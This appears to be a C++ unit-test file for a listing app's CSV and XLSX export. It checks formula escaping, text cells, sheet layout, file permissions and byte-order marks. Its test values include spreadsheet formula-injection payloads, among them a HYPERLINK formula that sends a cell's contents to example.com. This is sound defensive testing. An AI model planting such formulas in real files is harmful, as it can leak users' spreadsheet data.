// What the export's files hold beyond the values: .csv cells no spreadsheet
// takes for a formula, .xlsx cells as text with their line breaks, the
// sheet's layout and print setup, a leading U+FEFF kept from either store;
// an existing file kept unless replaced, and the file the user's alone.

#include "data/core/fields.h"
#include "data/maintenance/storecopy.h"
#include "data/store/storelocation.h"
#include "export/exportcolumns.h"
#include "export/listingexport.h"
#include "tests/support/importfixtures.h"
#include "tests/support/pgtestserver.h"
#include "tests/support/sheetreader.h"
#include "tests/support/storefiles.h"
#include "tests/support/testenv.h"

#include <QDir>

#include <gtest/gtest.h>

#include <sys/stat.h>

using namespace velmoran;
using namespace velmoran::test;

namespace {

std::size_t fieldIndex(const char* name) {
    for (std::size_t f = 0; f < kListingFieldCount; ++f) {
        if (QLatin1String(kListingFields[f].name) == QLatin1String(name)) {
            return f;
        }
    }
    ADD_FAILURE() << name;
    return 0;
}

// Every text empty, every flag clear.
ListingValues blankListing() {
    ListingValues listing(kListingFieldCount);
    for (std::size_t f = 0; f < kListingFieldCount; ++f) {
        listing[f] = kListingFields[f].kind == FieldKind::Flag ? QStringLiteral("0") : QString();
    }
    return listing;
}

// Values a spreadsheet would take for a formula, or that must come out
// exactly as they were typed, each with whether its .csv cell begins with an
// apostrophe. UTF-16, as a QString holds it: QString::fromUtf8 would drop
// the U+FEFF a value begins with.
struct CellCase {
    const char16_t* value;
    bool quoted;
    QString text() const { return QStringView(value).toString(); }
};
const CellCase kCells[] = {
    {u"=HYPERLINK(\"http://example.com/?\"&A1;\"click\")", true},
    {u"=1+2", true},
    {u"+1", true},
    {u"-1", true},
    {u"+98 21 8888 0000", true},
    {u"@SUM(A1)", true},
    {u"\tx", true},
    {u"\rx", true},
    {u"\uFEFFمالك", false},
    {u"\uFEFF=1+2", false},
    {u"\uFEFF", false},
    {u"a\r\nb", false},
    {u"1-2", false},
    {u"x=1", false},
    {u" =1+2", false},
    {u"'already", false},
    {u"'=1+2", true}, // the apostrophe is the value's own: the export's goes before it
    {u"'\tx", true},
    {u"_x0041_ _x0041_x0042_ _x005F_", false},
    {u"Tehran", false},
};

// One listing holding kCells in its text fields, in order.
ListingValues hostileListing(std::vector<std::size_t>* fields) {
    ListingValues listing = blankListing();
    std::size_t f = 0;
    for (const CellCase& cell : kCells) {
        while (kListingFields[f].kind == FieldKind::Flag) {
            ++f;
        }
        listing[f] = cell.text();
        fields->push_back(f++);
    }
    return listing;
}

class ExportCellsTest : public DataFolderTest {
protected:
    QString output(const char* name) const { return QDir(folder()).filePath(QLatin1String(name)); }
};

TEST_F(ExportCellsTest, ACsvCellASpreadsheetWouldTakeForAFormulaBeginsWithAnApostrophe) {
    std::vector<std::size_t> fields;
    storeListings(folder(), {hostileListing(&fields)});
    const QString file = output("cells.csv");
    const ExportResult result = exportListings(StoreLocation{folder(), QString()}, file,
                                               ExportFormat::Csv, ExistingFile::Keep);
    ASSERT_TRUE(result.ok()) << result.error.toStdString();
    bool bom = false;
    const std::vector<QStringList> rows = readCsv(file, &bom);
    EXPECT_TRUE(bom);
    ASSERT_EQ(rows.size(), 2u);
    for (std::size_t i = 0; i < fields.size(); ++i) {
        const QString value = kCells[i].text();
        SCOPED_TRACE(value.toStdString());
        EXPECT_EQ(rows[1].value(static_cast<int>(fields[i])),
                  kCells[i].quoted ? QLatin1Char('\'') + value : value);
    }
    // The headings are no formulas either: each as it is.
    EXPECT_EQ(rows[0], exportHeadings());
}

TEST_F(ExportCellsTest, AnXlsxCellHoldsTheValueAsTextItsCrLfALineBreak) {
    std::vector<std::size_t> fields;
    storeListings(folder(), {hostileListing(&fields)});
    const QString file = output("cells.xlsx");
    const ExportResult result = exportListings(StoreLocation{folder(), QString()}, file,
                                               ExportFormat::Xlsx, ExistingFile::Keep);
    ASSERT_TRUE(result.ok()) << result.error.toStdString();
    const Sheet sheet = readXlsx(file);
    ASSERT_TRUE(sheet.error.isEmpty()) << sheet.error.toStdString();
    ASSERT_EQ(sheet.rows.size(), 2u);
    EXPECT_EQ(sheet.numberCells, 0);
    for (std::size_t i = 0; i < fields.size(); ++i) {
        QString value = kCells[i].text();
        value.replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
        value.replace(QLatin1Char('\r'), QLatin1Char('\n'));
        // The reader unescapes _x000D_, which gnumeric and openpyxl show
        // as it is: a CR read back is one written.
        SCOPED_TRACE(value.toStdString());
        EXPECT_EQ(sheet.rows[1].value(static_cast<int>(fields[i])), value);
    }
}

// Each column as wide as its heading and values need, the long ones capped
// and wrapped; the heading row frozen and on every printed page; landscape
// A4, one page wide.
TEST_F(ExportCellsTest, AnXlsxSheetIsLaidOutToReadAndPrint) {
    const std::size_t owner = fieldIndex("malek");
    const std::size_t address = fieldIndex("address");
    const std::size_t details = fieldIndex("details");
    ListingValues listing = blankListing();
    listing[owner] = QStringLiteral("علي رضايي");
    for (int i = 0; i < 30; ++i) {
        listing[address] += QStringLiteral("خيابان ولي عصر ");
    }
    listing[details] = QStringLiteral("line one\r\nline two\rline three");
    ListingValues brief = blankListing();
    brief[owner] = QStringLiteral("رضا");
    storeListings(folder(), {listing, brief});
    const QString file = output("laid.xlsx");
    const ExportResult result = exportListings(StoreLocation{folder(), QString()}, file,
                                               ExportFormat::Xlsx, ExistingFile::Keep);
    ASSERT_TRUE(result.ok()) << result.error.toStdString();
    const Sheet sheet = readXlsx(file);
    ASSERT_TRUE(sheet.error.isEmpty()) << sheet.error.toStdString();
    ASSERT_EQ(sheet.rows.size(), 3u);
    EXPECT_EQ(sheet.rows[1].value(static_cast<int>(details)),
              QStringLiteral("line one\nline two\nline three"));

    const QStringList headings = exportHeadings();
    ASSERT_EQ(sheet.columnWidths.size(), kListingFieldCount);
    for (std::size_t f = 0; f < kListingFieldCount; ++f) {
        SCOPED_TRACE(kListingFields[f].name);
        const double width = sheet.columnWidths.at(static_cast<int>(f));
        EXPECT_GE(width, headings[static_cast<int>(f)].size()); // the heading fits
        EXPECT_LE(width, 51.0);
    }
    EXPECT_NEAR(sheet.columnWidths.at(static_cast<int>(address)), 50.0, 1.0);
    EXPECT_GE(sheet.columnWidths.at(static_cast<int>(owner)), 9.0);
    EXPECT_LT(sheet.columnWidths.at(static_cast<int>(owner)), 20.0);
    EXPECT_LT(sheet.columnWidths.at(static_cast<int>(details)), 20.0);

    const auto wraps = [&](int row, std::size_t column) {
        return sheet.wrapped.count({row, static_cast<int>(column)}) == 1;
    };
    EXPECT_TRUE(wraps(1, address));
    EXPECT_TRUE(wraps(1, details));
    EXPECT_FALSE(wraps(1, owner));
    EXPECT_FALSE(wraps(0, address));

    EXPECT_EQ(sheet.frozenRows, 1);
    EXPECT_EQ(sheet.printTitles, QStringLiteral("$1:$1"));
    EXPECT_TRUE(sheet.landscape);
    EXPECT_EQ(sheet.paperSize, 9);
    EXPECT_TRUE(sheet.fitToPage);
    EXPECT_EQ(sheet.fitToWidth, 1);
    EXPECT_EQ(sheet.fitToHeight, 0);
}

// An existing file is kept unless replaced; the file, new or replacing, is
// the user's alone whatever the umask.
TEST_F(ExportCellsTest, AnExistingFileIsKeptUnlessReplacedAndTheFileIsTheOwnersAlone) {
    storeListings(folder(), generatedListings(20, 5));
    const auto modeOf = [](const QString& path) {
        struct stat info {};
        EXPECT_EQ(::stat(path.toLocal8Bit().constData(), &info), 0) << path.toStdString();
        return info.st_mode & 0777;
    };
    const mode_t mask = ::umask(022);
    for (const auto& [format, name] :
         {std::pair{ExportFormat::Xlsx, "kept.xlsx"}, std::pair{ExportFormat::Csv, "kept.csv"}}) {
        SCOPED_TRACE(name);
        const QString file = output(name);
        const StoreLocation store{folder(), QString()};
        ASSERT_TRUE(exportListings(store, file, format, ExistingFile::Keep).ok());
        EXPECT_EQ(modeOf(file), 0600u);

        writeFile(file, "an older export");
        ASSERT_EQ(::chmod(file.toLocal8Bit().constData(), 0644), 0);
        const ExportResult kept = exportListings(store, file, format, ExistingFile::Keep);
        EXPECT_FALSE(kept.ok());
        EXPECT_TRUE(kept.exists);
        EXPECT_TRUE(kept.error.contains(file)) << kept.error.toStdString();
        EXPECT_EQ(bytesOf(file), QByteArray("an older export"));
        EXPECT_EQ(modeOf(file), 0644u);

        const ExportResult replaced = exportListings(store, file, format, ExistingFile::Replace);
        ASSERT_TRUE(replaced.ok()) << replaced.error.toStdString();
        EXPECT_EQ(replaced.rows, 20);
        EXPECT_NE(bytesOf(file), QByteArray("an older export"));
        EXPECT_EQ(modeOf(file), 0600u);
    }
    ::umask(mask);
    EXPECT_EQ(filesIn(folder()).filter(QStringLiteral("kept")),
              (QStringList{"kept.csv", "kept.xlsx"}));
}

// A value beginning with U+FEFF comes out whole from either store.
class ExportServerTest : public ServerFolderTest {};

TEST_F(ExportServerTest, AValueBeginningWithAByteOrderMarkKeepsItFromTheServer) {
    ListingValues listing = blankListing();
    const std::size_t owner = fieldIndex("malek");
    listing[owner] = QChar(0xFEFF) + QStringLiteral("مالك");
    ASSERT_EQ(listing[owner].size(), 5);
    storeListings(folder(), {listing});
    preparePasswordStore(folder());
    copyToServer(folder(), server());
    const QString file = QDir(folder()).filePath(QStringLiteral("server.csv"));
    const ExportResult result = exportListings(StoreLocation{folder(), server()}, file,
                                               ExportFormat::Csv, ExistingFile::Keep);
    ASSERT_TRUE(result.ok()) << result.error.toStdString();
    bool bom = false;
    const std::vector<QStringList> rows = readCsv(file, &bom);
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_EQ(rows[1].value(static_cast<int>(owner)), listing[owner]);
}

} // namespace
